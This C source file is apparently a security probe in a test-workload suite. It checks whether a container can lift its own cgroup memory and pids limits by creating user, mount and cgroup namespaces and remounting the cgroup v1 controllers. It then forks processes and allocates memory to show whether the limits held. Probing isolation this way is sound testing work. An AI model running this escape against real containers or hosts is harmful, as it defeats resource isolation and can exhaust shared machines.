/* cgescape: a security probe, not a benchmark workload. From inside a container it tries the
 * way out of its cgroup limits that Docker's seccomp profile closes: a new user namespace
 * mapping 0 to 0, then mount and cgroup namespaces, the v1 memory and pids hierarchies
 * mounted (rooted at its own leaf), and its own limits raised. Then, to show whether the
 * limits held, it can fork N processes and touch BYTES of memory (a container whose memory
 * limit held is OOM-killed there). Prints one line per step; exits 0 when it escaped, 1 when
 * every way was refused (the fork and hog steps still run). */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "wl.h"

static const char usage[] =
    "usage: cgescape [--forks N] [--hog BYTES]\n"
    "Try to raise this container's memory and pids limits from inside (user + mount + cgroup\n"
    "namespaces, cgroup v1 mounted at the leaf). Then fork N sleeping children and touch BYTES\n"
    "of memory. Exit 0: escaped; 1: refused.\n";

static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	ssize_t n = write(fd, text, strlen(text));
	int e = n < 0 ? errno : 0;
	close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -(e ? e : EIO);
}

static int step(const char *what, int r)
{
	printf("cgescape: %s: %s\n", what, r == 0 ? "ok" : strerror(-r));
	fflush(stdout);
	return r;
}

/* Returns how many limits were raised (0..2). */
static int escape(void)
{
	static const struct {
		const char *ctrl, *dir, *file, *value;
	} limits[] = {
	    {"memory", "/tmp/.cgescape-memory", "memory.limit_in_bytes", "-1"},
	    {"pids", "/tmp/.cgescape-pids", "pids.max", "max"},
	};
	char path[128];
	int raised = 0;

	if (step("unshare user namespace", unshare(CLONE_NEWUSER) < 0 ? -errno : 0) < 0)
		return 0;
	if (step("setgroups deny", put("/proc/self/setgroups", "deny")) < 0 ||
	    step("uid_map 0 0 1", put("/proc/self/uid_map", "0 0 1")) < 0 ||
	    step("gid_map 0 0 1", put("/proc/self/gid_map", "0 0 1")) < 0)
		return 0;
	if (step("unshare mount+cgroup namespaces",
		 unshare(CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? -errno : 0) < 0)
		return 0;
	for (unsigned i = 0; i < sizeof(limits) / sizeof(limits[0]); i++) {
		snprintf(path, sizeof(path), "mount cgroup %s", limits[i].ctrl);
		mkdir(limits[i].dir, 0700);
		if (step(path, mount("cgroup", limits[i].dir, "cgroup", 0, limits[i].ctrl) < 0
				   ? -errno
				   : 0) < 0)
			continue;
		char file[128];
		snprintf(file, sizeof(file), "%s/%s", limits[i].dir, limits[i].file);
		snprintf(path, sizeof(path), "write %s %s", limits[i].file, limits[i].value);
		if (step(path, put(file, limits[i].value)) == 0)
			raised++;
	}
	return raised;
}

static void forks(unsigned n)
{
	pid_t *kids = calloc(n, sizeof(*kids));
	unsigned ok = 0;
	for (unsigned i = 0; kids && i < n; i++) {
		pid_t p = fork();
		if (p == 0) {
			pause();
			_exit(0);
		}
		if (p > 0)
			kids[ok++] = p;
	}
	printf("cgescape: forks: %u of %u\n", ok, n);
	fflush(stdout);
	for (unsigned i = 0; i < ok; i++) {
		kill(kids[i], SIGKILL);
		waitpid(kids[i], NULL, 0);
	}
	free(kids);
}

static void hog(uint64_t bytes)
{
	const size_t chunk = 1 << 20;
	for (uint64_t done = 0; done < bytes; done += chunk) {
		char *p =
		    mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			wl_die("cgescape", -errno, "mmap");
		memset(p, 0x5a, chunk);
	}
	printf("cgescape: hog: %llu bytes touched\n", (unsigned long long)bytes);
}

int main(int argc, char **argv)
{
	uint64_t n_forks = 0, hog_bytes = 0;
	const char *v;

	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--help") || !strcmp(argv[i], "-h")) {
			fputs(usage, stdout);
			return 0;
		}
		if (wl_opt("cgescape", argc, argv, &i, "--forks", &v)) {
			if (wl_parse_uint(v, 100000, &n_forks) < 0)
				wl_usage_fail("cgescape", "--forks '%s': want 0..100000", v);
		} else if (wl_opt("cgescape", argc, argv, &i, "--hog", &v)) {
			if (wl_parse_size(v, 1ULL << 40, &hog_bytes) < 0)
				wl_usage_fail("cgescape", "--hog '%s': want a size up to 1T", v);
		} else {
			wl_usage_fail("cgescape", "unknown argument '%s' (see --help)", argv[i]);
		}
	}
	int raised = escape();
	printf("cgescape: %s\n", raised ? "ESCAPED: limits raised from inside" : "limits held");
	fflush(stdout);
	if (n_forks)
		forks((unsigned)n_forks);
	if (hog_bytes)
		hog(hog_bytes);
	return raised ? 0 : 1;
}
